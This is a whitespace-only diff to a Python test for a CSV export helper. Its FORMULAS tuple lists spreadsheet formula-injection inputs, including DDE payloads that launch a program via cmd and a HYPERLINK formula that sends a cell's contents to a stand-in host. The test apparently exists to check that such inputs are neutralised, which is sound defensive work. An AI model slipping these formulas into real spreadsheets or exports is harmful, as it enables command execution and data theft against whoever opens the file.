@@ -10,8 +10,8 @@ from hypothesis import strategies as st
 from ngshare_fs.web.untrusted.csv_table import csv_table
 
 FORMULAS = (
-    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "\xa0=1", "\ufeff=1", "\uff1d1", 
-    "=cmd|' /C calc'!A0",     '=HYPERLINK("http://x.test/?"&A1,"x")', "\0=1", "-2+3+cmd|'/C calc'!A0", "  \u200b@x",
+    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "\xa0=1", "\ufeff=1", "\uff1d1",
+    "=cmd|' /C calc'!A0", '=HYPERLINK("http://x.test/?"&A1,"x")', "\0=1", "-2+3+cmd|'/C calc'!A0", "  \u200b@x",
 )  # fmt: skip
 
 
